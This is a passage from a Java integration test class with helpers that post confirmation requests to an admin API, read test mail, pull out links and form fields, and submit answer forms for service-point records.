            throw new UncheckedIOException(e);
        }
    }

    private static ValidatableResponse refused(Map<String, ?> request) {
        return desk().contentType("application/json")
                .body(request)
                .post("/admin/v1/confirmations")
                .then()
                .statusCode(400);
    }

    private static MimeMessage mailTo(String address) throws Exception {
        for (var mail : MailServer.arrived()) {
            if (mail.getAllRecipients()[0].toString().equals(address)) {
                return mail;
            }
        }
        throw new IllegalStateException("no mail to " + address);
    }

    private static List<String> links(String part) {
        return LINK.matcher(part).results().map(found -> found.group(1)).toList();
    }

    /** A point that nobody has verified, so that its hours and its address are old. */
    private static void unverified(String point) throws SQLException {
        if (get("/v1/service-points/" + point).getString("verifiedOn") != null) {
            publish("UPDATE service_point SET verified_on = NULL WHERE id = '" + point + "'");
        }
    }

    static Map<String, String> record(String id) {
        return Map.of("type", "service-points", "id", id);
    }

    static JsonPath ask(Map<String, ?> request) {
        return desk().contentType("application/json")
                .body(request)
                .post("/admin/v1/confirmations")
                .then()
                .statusCode(200)
                .extract()
                .jsonPath();
    }

    static RequestSpecification desk() {
        return rest().header("Authorization", "Bearer " + Curating.EDITOR);
    }

    private static String status(int number) {
        return desk().get("/admin/v1/confirmations").path("items.find { it.number == " + number + " }.status");
    }

    private static MimeMessage onlyMail() {
        eventually(() -> !MailServer.arrived().isEmpty());
        var mails = MailServer.arrived();
        assertEquals(1, mails.size());
        return mails.get(0);
    }

    /** The text and the HTML of a mail. */
    private static List<String> parts(MimeMessage mail) throws Exception {
        var parts = (Multipart) mail.getContent();
        return List.of((String) parts.getBodyPart(0).getContent(), (String)
                parts.getBodyPart(1).getContent());
    }

    /** The path of the link in a mail. */
    private static String link(MimeMessage mail) throws Exception {
        return links(parts(mail).get(0)).get(0);
    }

    /** The fields of a form with one answer for each record. */
    private static Map<String, String> answers(Document page, String answer, String correction) {
        var fields = new LinkedHashMap<String, String>();
        page.select("form.report input[type=hidden]").forEach(input -> fields.put(input.attr("name"), input.val()));
        for (int i = 0; fields.containsKey("id." + i); i++) {
            fields.put("answer." + i, answer);
            fields.put("correction." + i, correction);
        }
        return fields;
    }

    private static Response send(String link, Map<String, String> fields) {
        return given().redirects()
                .follow(false)
                .accept("text/html")
                .config(RestAssured.config()
                        .encoderConfig(EncoderConfig.encoderConfig().defaultContentCharset("UTF-8")))
                .formParams(fields)
                .post(link);
    }

    private static Document page(String address) {
        return Jsoup.parse(given().urlEncodingEnabled(false)
                .accept("text/html")
                .get(address)
                .then()
                .statusCode(200)
                .contentType("text/html;charset=UTF-8")
                .extract()
                .asString());
    }
}
